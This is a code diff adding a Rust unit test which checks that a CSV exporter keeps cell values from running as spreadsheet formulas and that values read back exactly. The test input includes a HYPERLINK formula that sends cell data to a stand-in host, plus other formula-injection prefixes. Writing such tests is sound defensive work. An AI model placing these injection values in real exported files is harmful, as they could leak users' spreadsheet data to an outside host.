@@ -122,6 +122,51 @@ mod tests {
     }
 
     #[test]
+    fn csv_cells_cannot_run_as_formulas_and_still_read_back_exactly() {
+        let hostile = [
+            "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
+            "+1",
+            "-x",
+            "@SUM(A1:A9)",
+            "\tTabbed",
+            "\rReturn",
+            "'quoted",
+            "''twice",
+            "'",
+            "plain, \"with\" commas",
+        ];
+        let mut rows = Vec::new();
+        for (i, label) in hostile.iter().enumerate() {
+            let mut row = instance(&format!("i{i}"), None);
+            row.label = Some((*label).to_string());
+            row.probe = vec!["-v".into(), "=cmd".into()];
+            row.token = Some(format!("-{label}"));
+            rows.push(row);
+        }
+        let csv = String::from_utf8(write_csv(&rows).expect("csv")).expect("utf-8");
+        let mut reader = ::csv::Reader::from_reader(csv.as_bytes());
+        for record in reader.records() {
+            for cell in record.expect("a record").iter() {
+                assert!(
+                    !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
+                    "{cell:?} would run in a spreadsheet"
+                );
+            }
+        }
+        let back = rows_of(parse(&csv, Format::Csv).expect("parse"));
+        assert_eq!(back, rows, "every cell reads back exactly");
+        let again = String::from_utf8(write_csv(&back).expect("csv")).expect("utf-8");
+        assert_eq!(again, csv, "export, import, export is the identity");
+        // A quote typed by hand is the spreadsheet's text marker.
+        let typed = parse(
+            "type,ref,api,url,label\ninstance,x,ping,http://x/,'=1\n",
+            Format::Csv,
+        )
+        .expect("parse");
+        assert_eq!(rows_of(typed)[0].label.as_deref(), Some("=1"));
+    }
+
+    #[test]
     fn a_left_out_token_is_absent_in_json_and_empty_in_csv() {
         let mut row = host("srv1");
         row.token = None;
